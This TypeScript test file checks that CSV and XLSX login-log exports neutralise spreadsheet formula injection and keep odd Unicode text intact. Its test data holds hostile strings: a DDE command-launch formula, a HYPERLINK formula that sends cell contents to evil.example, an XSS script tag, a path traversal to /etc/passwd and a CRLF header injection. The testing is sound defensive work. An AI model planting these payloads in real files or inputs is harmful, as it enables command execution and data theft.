import { inflateRawSync } from 'node:zlib';
import { sql } from 'kysely';
import { describe, expect, test } from 'vitest';
import { csvLines } from '../../platform/lines/csv-line.ts';
import type { LineForm } from '../../platform/lines/line-form.ts';
import { xlsxLines } from '../../platform/lines/xlsx-line.ts';
import { guardFormula } from '../../platform/sheets/formula-guard.ts';
import { csvBytes } from './files/csv.ts';
import { xlsxBytes } from './files/xlsx.ts';
import type { ExportCell } from '../../platform/lines/export-cell.ts';
import { lastDays, openBench, readCsv, readXlsx } from './testing/export-bench.ts';

/** What spreadsheets take for a formula, in every spelling that one of them is known to accept. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1＋1',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\ufeff=1+1',
  '-',
  '=',
  '+886-2-1234',
  '-1e5',
  '-1,000',
] as const;

/** Formulas for a spreadsheet that parts cells elsewhere than we do, and what makes them text. */
const elsewhere = [
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['a;=1+1;', "a;'=1+1;"],
  ['a;b;＝1＋1', "a;b;'＝1＋1"],
  ['a|@SUM(1)', "a|'@SUM(1)"],
  ['a\t-2+3', "a\t'-2+3"],
  ['a\n=1+1;b', "a\n'=1+1;b"],
  ['a\r\n\u00a0+1+1', "a\r\n'\u00a0+1+1"],
  ['=1;=2', "'=1;'=2"],
] as const;

/** Text that has broken other writers of files, and is shown as it is. */
const texts = [
  '王小明',
  '𠮷田 𡘙',
  'e\u0301 é',
  '👩‍👩‍👧',
  'a,b;c',
  'say "hi"',
  '"',
  'two\r\nlines',
  'one\nother',
  ' led and followed by blanks ',
  '<script>alert(1)</script>',
  ']]>&amp;&lt;',
  '_x0041_ and _x000D_',
  '\u0001\u0008\u001f',
  '\u202eevil\u202c',
  "'quoted",
  '../../etc/passwd',
  'a%0d%0aSet-Cookie: x=1',
  '00123',
  '1e5',
  'TRUE',
  '2026-11-21',
  'x'.repeat(5_000),
] as const;

/** A plain signed number is no formula. */
const numbers = ['-1', '+1', '-1234.5600', '+0.1', '12'];

async function write(bytes: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of bytes) chunks.push(chunk);
  return Buffer.concat(chunks);
}
const sheet = (form: LineForm, rows: readonly (readonly ExportCell[])[]) => ({
  name: 'sheet',
  header: ['=title', 'b'],
  lines: (async function* () {
    for (const row of rows) yield { bytes: [Buffer.from(form.line(row))], rows: 1 };
  })(),
});
const csv = (rows: readonly (readonly ExportCell[])[]) => write(csvBytes(sheet(csvLines, rows)));
const xlsx = (rows: readonly (readonly ExportCell[])[]) => write(xlsxBytes(sheet(xlsxLines, rows)));

/** The parts of a zip as text, each unpacked from where its local header ends. */
function partsOf(zip: Buffer): string[] {
  const parts: string[] = [];
  for (let at = zip.indexOf('PK\x03\x04'); at !== -1; at = zip.indexOf('PK\x03\x04', at + 4)) {
    const begins = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28);
    parts.push(inflateRawSync(zip.subarray(begins)).toString('utf8'));
  }
  return parts;
}

describe('CSV', () => {
  test.each(formulas)('%j is led by a quote, and whole behind it', async (text) => {
    const [header, row] = readCsv(await csv([[text, 'x']]));
    expect(row).toEqual([`'${text}`, 'x']);
    expect(header).toEqual(["'=title", 'b']);
  });

  test.each(elsewhere)('%j is text too where another separator parts it: %j', async (text, inert) => {
    const [, row] = readCsv(await csv([[text, 'x']]));
    expect(row).toEqual([inert, 'x']);
  });

  test.each(texts)('%j comes back unchanged', async (text) => {
    expect(readCsv(await csv([[text, 'x']]))[1]).toEqual([text, 'x']);
  });

  test.each(numbers)('%s stays a number', (text) => {
    expect(guardFormula(text)).toBe(text);
  });

  test('an amount below zero is written as it is', async () => {
    const [, row] = readCsv(await csv([[{ money: '-12.3400' }, { money: null }]]));
    expect(row).toEqual(['-12.3400', '']);
  });
});

describe('XLSX', () => {
  test.each([...formulas, ...elsewhere.map(([text]) => text), ...texts])(
    '%j comes back unchanged, as text',
    async (text) => {
      const bytes = await xlsx([[text, 'x']]);
      expect((await readXlsx(bytes))[1]).toEqual([text, 'x']);
    },
  );

  test('holds no formula, whatever its text looks like', async () => {
    const xml = partsOf(await xlsx(formulas.map((text) => [text, null])));
    expect(xml.some((part) => part.includes('inlineStr'))).toBe(true);
    for (const part of xml) expect(part).not.toMatch(/<f[ >]|t="str"/);
  });

  test('keeps every amount exact: as a number while fifteen digits hold it, else as text', async () => {
    const amounts = ['0.0000', '-12.3400', '12345678901.2345', '999999999999.9999', '-123456789012.345678'];
    const bytes = await xlsx(amounts.map((money) => [{ money }, null]));
    const read = (await readXlsx(bytes)).slice(1).map(([value]) => value);
    expect(read).toEqual([0, -12.34, 12345678901.2345, '999999999999.9999', '-123456789012.345678']);
  });
});

describe('through the whole way, from a row of the database to the file', () => {
  test.each(['csv', 'xlsx'] as const)('every text of the corpus is inert in %s', async (format) => {
    const bench = await openBench();
    const corpus = [...formulas, ...texts].filter((text) => text.length < 1_000);
    const { app } = bench.house.base.database;
    await sql`
      INSERT INTO login_attempt (username, ip, user_agent, outcome)
      SELECT text, '203.0.113.99', 'place ' || place, 'unknownUser'
      FROM unnest(${corpus}::text[]) WITH ORDINALITY AS row (text, place) ORDER BY place`.execute(app);
    const bytes = await bench.take('admin', 'admin.loginlogs', {
      format,
      columns: ['username', 'device'],
      filter: { ...lastDays('admin.loginlogs'), ip: '203.0.113.99' },
    });
    const rows = format === 'csv' ? readCsv(bytes) : await readXlsx(bytes);
    const isFormula = (text: string): boolean => (formulas as readonly string[]).includes(text);
    // Newest first.
    expect(rows.slice(1)).toEqual(
      corpus
        .map((text, index) => [format === 'csv' && isFormula(text) ? `'${text}` : text, `place ${index + 1}`])
        .toReversed(),
    );
  });
});
